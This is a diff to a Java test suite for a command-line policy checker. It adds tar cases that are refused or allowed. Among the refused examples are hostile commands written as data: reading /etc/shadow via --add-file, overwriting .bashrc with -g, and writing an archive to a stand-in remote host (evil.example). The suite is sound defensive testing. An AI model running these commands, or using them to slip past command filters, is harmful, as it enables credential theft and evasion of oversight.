@@ -88,6 +88,9 @@ class ArgvRiskyFlagsTest {
             - id: restore-anywhere
               effect: allow
               command: { binary: bsdtar, flags: { accept_risky: [directory-outside] } }
+            - id: file-lists
+              effect: allow
+              command: { binary: gtar, flags: { accept_risky: [-T, --files-from] } }
           """);
 
   static Arguments refused(String name, Action a) {
@@ -258,6 +261,48 @@ class ArgvRiskyFlagsTest {
         allowed("tar -xfC: C is -f's value", line("tar -xfC /tmp/x.tar")),
         allowed("tar old-style xfC inside", line("tar xfC /tmp/x.tar out")),
         allowed("accept_risky: [directory-outside]", line("bsdtar -xf x.tar -C /srv/restore")),
+        // seventeenth session: a file list names what tar reads or extracts, out of the policy's
+        // sight, and GNU tar 1.34 obeys -C DIR, --directory=DIR, --add-file and -T lines in it
+        refused("tar -T", line("tar -cf out.tar -T list")),
+        refused("tar -T - (stdin)", line("tar -cf out.tar -T -")),
+        refused("tar -Tlist glued", line("tar -cf out.tar -Tlist")),
+        refused("tar -cvT cluster", line("tar -cvT list -f out.tar")),
+        refused("tar --files-from=", line("tar -cf out.tar --files-from=list")),
+        refused("tar --files-from VALUE", line("tar -cf out.tar --files-from list")),
+        refused("tar --files-f= abbreviated", line("tar -cf out.tar --files-f=list")),
+        refused("tar --files abbreviated", line("tar -cf out.tar --files list")),
+        refused("tar --FILES_FROM case", line("tar -cf out.tar --FILES_FROM=list")),
+        refused("tar old-style cfT", line("tar cfT out.tar list")),
+        refused("tar old-style cTf", line("tar cTf list out.tar")),
+        refused("tar -T on extraction", line("tar -xf x.tar -T list")),
+        refused(
+            "tar --verbatim-files-from -T (absolute names are still read)",
+            line("tar -cf out.tar --null --verbatim-files-from -T list")),
+        refused("bsdtar -T", line("bsdtar -cf out.tar -T list")),
+        refused("tar --add-file", line("tar -cf out.tar --add-file=/etc/shadow")),
+        refused("tar --index-file writes the listing", line("tar -tvf x.tar --index-file=/x")),
+        refused("tar -g writes a snapshot file", line("tar -cf o.tar -g /home/u/.bashrc src")),
+        refused("tar --listed-incremental", line("tar -cf o.tar --listed-inc=/x src")),
+        refused("tar --volno-file", line("tar -cf o.tar --volno-file=/x src")),
+        // old-style: every letter of the first word is an option, a value letter included
+        refused("tar old-style cfP (P after a value letter)", line("tar cfP out.tar /etc")),
+        refused("tar old-style xfI", line("tar xfI x.tar /tmp/evil")),
+        allowed("tar --file= is not --files-from", line("tar -c --file=out.tar src")),
+        allowed("tar --file VALUE", line("tar -x --file x.tar")),
+        allowed("tar -xfT: T is -f's value", line("tar -xfT")),
+        allowed("tar -X narrows what is archived", line("tar -cf o.tar -X exclude.txt src")),
+        allowed("tar --exclude-from", line("tar -cf o.tar --exclude-from=exclude.txt src")),
+        allowed("tar --verbatim-files-from alone", line("tar -cf o.tar --verbatim-files-from s")),
+        // -f HOST:FILE: tar runs rsh to that host (rtapelib.c _remdev)
+        refused("tar -f HOST:FILE", line("tar -cf evil.example:/tmp/x.tar src")),
+        refused("tar -fHOST:FILE glued", line("tar -cfevil.example:x.tar src")),
+        refused("tar --file=HOST:FILE", line("tar -c --file=user@h:x.tar src")),
+        refused("tar --file HOST:FILE", line("tar -x --file h:x.tar")),
+        refused("tar old-style cf HOST:FILE", line("tar cf h:x.tar src")),
+        allowed("tar -f with a colon after a slash", line("tar -xf ./a:b.tar")),
+        allowed("tar -f HOST:FILE with --force-local", line("tar -xf a:b.tar --force-local")),
+        allowed("accept_risky: [-T, --files-from]", line("gtar -cf o.tar -T list --files-from=l")),
+        refused("accept_risky: [-T, ...] is not -P", line("gtar -cf o.tar -T list -P")),
         allowed("rsync -av --delete", line("rsync -av --delete a/ b/")),
         allowed("rsync's server side over SSH", line("rsync --server -vlogDtpre.iLsfxCIvu . /d")),
         allowed("ssh -p", line("ssh -p 2222 h uptime")),
